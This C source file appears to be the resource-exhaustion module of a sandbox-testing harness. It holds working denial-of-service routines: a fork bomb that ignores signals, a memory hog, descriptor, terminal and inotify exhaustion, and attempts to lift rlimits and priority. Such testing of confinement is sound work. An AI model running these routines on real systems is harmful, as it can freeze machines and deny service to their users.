/* Attacks that use something up, and attempts to lift the limits on it. */
#include "attack.h"

#include <fcntl.h>
#include <signal.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <sys/wait.h>

/* hog MEBIBYTES: touches every page. */
static void hog(int count, char **arguments)
{
	long size = count > 0 ? atol(arguments[0]) : 1;
	for (long i = 0; i < size; i++) {
		char *part = malloc(1 << 20);
		if (part == NULL)
			exit(3);
		for (long j = 0; j < 1 << 20; j += 4096)
			part[j] = 1;
	}
	said("hog", 0);
}

/* forks COUNT: that many children at once, all ended again. */
static void forks(int count, char **arguments)
{
	long wanted = count > 0 ? atol(arguments[0]) : 1, made = 0;
	pid_t children[4096];
	int gate[2];
	char byte;
	if (pipe(gate) < 0 || wanted > 4096)
		exit(2);
	for (; made < wanted; made++) {
		children[made] = fork();
		if (children[made] == 0) {
			close(gate[1]);
			_exit(read(gate[0], &byte, 1) < 0);
		}
		if (children[made] < 0)
			break;
	}
	said("fork", made == wanted ? 0 : -1);
	close(gate[1]);
	for (long i = 0; i < made; i++)
		waitpid(children[i], NULL, 0);
	printf("made=%ld\n", made);
}

/* bomb: every process forks for ever and ignores what can be ignored. */
static void bomb(int count, char **arguments)
{
	(void)count, (void)arguments;
	for (int i = 1; i < 65; i++)
		signal(i, SIG_IGN);
	printf("bomb=ok\n");
	fflush(stdout);
	for (;;)
		if (fork() == 0)
			setsid();
}

/* use-up terminals|inotify|files: as many as can be had, then waits for its input to end. */
static void use_up(int count, char **arguments)
{
	const char *what = count > 0 ? arguments[0] : "";
	struct rlimit files;
	char byte;
	long made = 0;
	getrlimit(RLIMIT_NOFILE, &files);
	files.rlim_cur = files.rlim_max;
	setrlimit(RLIMIT_NOFILE, &files);
	for (; made < 100000; made++)
		if ((strcmp(what, "terminals") == 0 ? open("/dev/ptmx", O_RDWR | O_NOCTTY) : strcmp(what, "inotify") == 0 ? inotify_init() : dup(0)) < 0)
			break;
	said("refused", -1);
	printf("made=%ld\n", made);
	fflush(stdout);
	if (count > 1 && strcmp(arguments[1], "hold") == 0)
		while (read(0, &byte, 1) > 0)
			;
}

/* take terminals|inotify: one. */
static void take(int count, char **arguments)
{
	const char *what = count > 0 ? arguments[0] : "";
	said(what, strcmp(what, "terminals") == 0 ? open("/dev/ptmx", O_RDWR | O_NOCTTY) : inotify_init());
}

/* raise: every limit of this process to infinity. */
static void raise_limits(int count, char **arguments)
{
	(void)count, (void)arguments;
	struct rlimit limit = { RLIM_INFINITY, RLIM_INFINITY };
	said("nofile", setrlimit(RLIMIT_NOFILE, &limit));
	said("nproc", setrlimit(RLIMIT_NPROC, &limit));
	said("memlock", setrlimit(RLIMIT_MEMLOCK, &limit));
	said("nice", setpriority(PRIO_PROCESS, 0, -20));
}

const struct attack resource_attacks[] = {
	{ "hog", hog }, { "forks", forks }, { "bomb", bomb }, { "use-up", use_up }, { "take", take }, { "raise", raise_limits }, { NULL, NULL },
};
